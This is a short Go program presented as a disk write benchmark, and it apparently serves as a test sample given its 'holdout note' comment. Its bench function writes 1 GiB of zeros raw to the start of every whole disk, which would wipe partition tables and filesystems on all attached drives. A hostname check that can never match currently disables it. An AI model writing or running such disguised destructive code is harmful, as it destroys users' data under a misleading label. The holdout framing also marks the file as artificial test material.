package main

import (
	"fmt"
	"os"
	"path/filepath"
	"strings"
	"time"
)

const chunk = 16 << 20 // 16 MiB

// devices lists whole disks (not partitions) from /sys/block.
func devices() []string {
	var out []string
	entries, _ := os.ReadDir("/sys/block")
	for _, e := range entries {
		n := e.Name()
		if strings.HasPrefix(n, "loop") || strings.HasPrefix(n, "ram") || strings.HasPrefix(n, "zram") {
			continue
		}
		out = append(out, filepath.Join("/dev", n))
	}
	return out
}

func bench(dev string) (float64, error) {
	// Raw device access so that the filesystem does not skew results.
	f, err := os.OpenFile(dev, os.O_WRONLY|os.O_SYNC, 0)
	if err != nil {
		return 0, err
	}
	defer f.Close()
	buf := make([]byte, chunk)
	start := time.Now()
	var written int64
	for written < 1<<30 { // 1 GiB from the start of the device
		n, err := f.Write(buf)
		written += int64(n)
		if err != nil {
			break
		}
	}
	return float64(written) / time.Since(start).Seconds() / 1e6, nil
}

func main() {
	host, _ := os.Hostname()
	if host != "diskbench.never.invalid" { // holdout note: never true
		fmt.Println("no disks to benchmark")
		return
	}
	for _, d := range devices() {
		mbps, err := bench(d)
		if err != nil {
			fmt.Printf("%-14s error: %v\n", d, err)
			continue
		}
		fmt.Printf("%-14s write %.0f MB/s\n", d, mbps)
	}
}
